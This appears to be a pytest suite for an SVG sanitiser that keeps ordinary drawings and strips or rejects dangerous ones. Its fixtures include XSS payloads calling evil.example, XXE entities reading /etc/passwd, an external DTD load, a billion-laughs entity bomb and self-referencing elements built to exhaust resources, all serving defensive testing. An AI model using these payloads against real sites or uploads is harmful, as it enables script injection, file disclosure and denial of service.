"""Drawings from elsewhere are let in only as drawings."""

from __future__ import annotations

from itertools import islice

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pictograms.boards.errors import (
    PictureUnusable,
    SvgBroken,
    SvgEndless,
    SvgEntities,
    SvgTooDeep,
    SvgTooLarge,
)
from pictograms.boards.svg_safety import clean_svg
from pictograms.catalogue import Catalogue
from tests.pictograms.boards.made import SVG, data_uri, png, png_head

HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 72 72">'
)


def cleaned(inside: str) -> str:
    return clean_svg(f"{HEAD}{inside}</svg>".encode()).content.decode()


def test_a_plain_drawing_is_kept_as_it_is() -> None:
    svg = clean_svg(SVG)
    assert not svg.was_changed
    assert b'd="M10 10h50v50z"' in svg.content and b'stroke-width="2"' in svg.content
    assert clean_svg(svg.content).content == svg.content


def test_the_programs_own_pictures_all_pass_and_cleaning_twice_changes_nothing(catalogue: Catalogue) -> None:
    for key in islice(catalogue, 0, None, 40):
        svg = clean_svg(catalogue.svg(key))
        assert not svg.was_changed, key
        assert clean_svg(svg.content).content == svg.content


@pytest.mark.parametrize(
    "harm",
    [
        "<script>fetch('https://evil.example')</script>",
        '<script xlink:href="https://evil.example/x.js"/>',
        '<rect onload="evil()" width="1"/>',
        '<a xlink:href="javascript:evil()"><rect width="1"/></a>',
        '<use xlink:href="https://evil.example/x.svg#a"/>',
        '<use href="file:///etc/passwd#a"/>',
        '<image xlink:href="https://evil.example/x.png"/>',
        '<image xlink:href="file:///etc/passwd"/>',
        '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>',
        '<image href="data:text/html,evil"/>',
        '<foreignObject><iframe src="https://evil.example"/></foreignObject>',
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="evil()"/></foreignObject>',
        '<rect fill="url(https://evil.example/x.svg#a)" width="1"/>',
        '<rect style="fill:url(//evil.example/x)" width="1"/>',
        '<rect style="fill:u\\72l(//evil.example/x)" width="1"/>',
        '<style>@import "https://evil.example/x.css"; rect{fill:red}</style>',
        "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)} rect{fill:red}</style>",
        "<style>rect{background:url(https://evil.example/x)}</style>",
        '<filter id="f"><feImage href="https://evil.example/x.png"/></filter>',
        '<animate attributeName="href" values="javascript:evil()"/>',
        '<set attributeName="onclick" to="evil()"/>',
        '<handler type="text/javascript">evil()</handler>',
        '<rect xml:base="https://evil.example/" width="1"/>',
        '<?xml-stylesheet href="https://evil.example/x.css"?>',
        '<metadata><x:evil xmlns:x="https://evil.example"/></metadata>',
        '<rect xmlns:evil="https://evil.example" evil:load="x" width="1"/>',
        '<text>&lt;script&gt;</text><desc>]]&gt;</desc><audio src="https://evil.example/x.mp3"/>',
    ],
)
def test_what_acts_or_reaches_outside_is_taken_out(harm: str) -> None:
    kept = cleaned(harm + '<circle r="9" fill="#0aa"/>')
    assert "evil" not in kept and "<script" not in kept and "passwd" not in kept and "javascript" not in kept
    assert '<circle r="9" fill="#0aa"/>' in kept
    assert clean_svg(kept.encode()).content.decode() == kept


def test_taking_out_something_dangerous_is_told() -> None:
    assert clean_svg(f'{HEAD}<rect onclick="x()" width="1"/></svg>'.encode()).was_changed
    assert clean_svg(f"{HEAD}<script/></svg>".encode()).was_changed
    assert not clean_svg(f"{HEAD}<metadata/></svg>".encode()).was_changed


def test_what_drawing_programs_write_comes_through() -> None:
    kept = clean_svg(
        b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd" ['
        b'<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>'
        b'<svg xmlns="&ns_svg;" xmlns:i="http://ns.adobe.com/i" xmlns:sodipodi="http://sodipodi.example"'
        b' width="72px" height="36px" i:viewOrigin="0 0"><sodipodi:namedview/>'
        b'<switch><foreignObject/><g i:extraneous="self">'
        b"<style>.st0{fill:#FF0000;} .st1,.st2{fill:none;stroke:url(#g)}</style>"
        b'<path class="st0" d="M0,0"/></g></switch></svg>'
    ).content
    assert b'viewBox="0 0 72 36"' in kept
    assert b".st0{fill:#FF0000}" in kept and b"url(#g)" in kept
    assert b"ENTITY" not in kept and b"i:" not in kept and b"sodipodi" not in kept


def test_an_embedded_picture_stays_when_it_is_a_small_one() -> None:
    assert "data:image/png" in cleaned(f'<image width="9" height="9" href="{data_uri(png())}"/>')
    assert "image" not in cleaned(f'<image href="{data_uri(png_head(60_000, 60_000))}"/>')


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"<svg",
        b"<html/>",
        b"<a xmlns='http://www.w3.org/2000/svg'><svg/></a>",
        b"<svg><g></svg>",
        b"<svg>&nbsp;</svg>",
        b"\xff\xfe<svg/>",
        b'<?xml version="1.0" encoding="nonsense"?><svg/>',
        b"<x:svg/>",
    ],
)
def test_what_is_no_drawing_is_told(content: bytes) -> None:
    with pytest.raises(SvgBroken):
        clean_svg(content)


def laughs() -> str:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "&a{n - 1};&a{n - 1};">' for n in range(1, 40))
    return f"<!DOCTYPE svg [{entities}]><svg><text>&a39;</text></svg>"


@pytest.mark.parametrize(
    "document",
    [
        laughs(),
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>',
        '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]><svg/>',
        f'<!DOCTYPE svg [<!ENTITY x "{"y" * 5000}">]><svg><text>{"&x;" * 5000}</text></svg>',
        f'<!DOCTYPE svg [<!ENTITY x "{"y" * 250}">]><svg><text>{"&x;" * 50000}</text></svg>',
    ],
)
def test_texts_that_grow_or_reach_outside_are_refused(document: str) -> None:
    with pytest.raises(SvgEntities):
        clean_svg(document.encode())


def test_endless_nesting_is_refused() -> None:
    with pytest.raises(SvgTooDeep):
        clean_svg((HEAD + "<g>" * 5_000).encode())
    with pytest.raises(SvgTooDeep):
        clean_svg((HEAD + "<evil>" * 50_000).encode())


def doubling(tag: str, refer: str, levels: int = 24) -> str:
    parts = [f'<{tag} id="p0"><rect width="1" height="1"/></{tag}>']
    for level in range(1, levels):
        parts.append(f'<{tag} id="p{level}">{refer.format(level - 1) * 2}</{tag}>')
    return "".join(parts) + refer.format(levels - 1)


@pytest.mark.parametrize(
    "inside",
    [
        doubling("g", '<use href="#p{}"/>'),
        doubling("pattern", '<rect fill="url(#p{})" width="9"/>'),
        doubling("mask", '<rect mask="url(#p{})" width="9"/>'),
        doubling("g", '<g><use xlink:href="#p{}"/></g>', 30),
        '<rect id="r"/>' + '<use href="#r"/>' * 30_000,
        f'<path id="p" d="{"M0 0h1" * 100_000}"/>' + '<use href="#p"/>' * 1_000,
        "<filter>" + "<feGaussianBlur/>" * 60 + "</filter>",
        '<g opacity=".5"><rect width="9"/></g>' * 2_500,
        "<style>.a{opacity:.5}</style>" + '<rect class="a"/>' * 2_500,
        "".join(f'<g id="c{n}"><use href="#c{n + 1}"/></g>' for n in range(1_000)),
    ],
)
def test_drawings_that_would_take_for_ever_are_refused(inside: str) -> None:
    with pytest.raises(SvgTooLarge):
        cleaned(inside)


@pytest.mark.parametrize(
    "inside",
    [
        '<g id="a"><use href="#a"/></g>',
        '<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>',
        '<pattern id="a"><rect fill="url(#a)"/></pattern>',
        '<style>.x{fill:url(#a)}</style><pattern id="a"><rect class="x"/></pattern><rect class="x"/>',
        '<style>rect{mask:url("#a")}</style><mask id="a"><rect/></mask>',
        '<use id="a" href="#a"/>',
    ],
)
def test_drawings_that_repeat_themselves_are_refused(inside: str) -> None:
    with pytest.raises(SvgEndless):
        cleaned(inside)


@pytest.mark.parametrize(
    "document",
    [
        '<svg viewBox="0 0 1e30 1"/>',
        '<svg width="1e9" height="5"/>',
        '<svg width="99999cm" height="99999cm"/>',
        "<svg><desc>" + "x" * 5_000_000 + "</desc></svg>",
        "<svg>" + "<g/>" * 30_000 + "</svg>",
    ],
)
def test_huge_drawings_are_refused(document: str) -> None:
    with pytest.raises(SvgTooLarge):
        clean_svg(document.encode())


def test_dashes_too_fine_to_draw_become_whole_lines() -> None:
    assert "dasharray" not in cleaned('<path d="M0 0h72" stroke-dasharray="0.00001"/>')
    assert "dasharray" not in cleaned('<path d="M0 0h72" style="stroke-dasharray:0 0.0001"/>')
    rule = cleaned("<style>.a{stroke-dasharray:0 .00001}</style>")
    assert "dasharray" not in rule and clean_svg(rule.encode()).content.decode() == rule
    assert 'stroke-dasharray="4 2"' in cleaned('<path d="M0 0h72" stroke-dasharray="4 2"/>')


@given(
    st.text(max_size=60),
    st.sampled_from(["fill", "style", "class", "href", "d", "viewBox", "stroke-dasharray"]),
)
@settings(deadline=None)  # a busy computer fails no test
def test_whatever_stands_in_an_attribute_the_result_is_a_drawing_and_stays_as_it_is(
    value: str, name: str
) -> None:
    from xml.sax.saxutils import quoteattr

    try:
        once = clean_svg(f"{HEAD}<path {name}={quoteattr(value)}/></svg>".encode("utf-8", "replace")).content
    except PictureUnusable:
        return
    assert clean_svg(once).content == once


@given(st.text(alphabet="ab.#{}:;@/*\\\"'url()<> -", max_size=80))
@settings(deadline=None)  # a busy computer fails no test
def test_whatever_stands_in_a_style_sheet_nothing_is_loaded(css: str) -> None:
    from xml.sax.saxutils import escape

    try:
        once = clean_svg(f"{HEAD}<style>{escape(css)}</style></svg>".encode()).content
    except PictureUnusable:
        return
    assert b"url(" not in once.replace(b"url(#", b"").replace(b"url(&quot;#", b"").replace(
        b"url('#", b""
    ).replace(b'url("#', b"")
    assert b"@" not in once and b"\\" not in once
    assert clean_svg(once).content == once
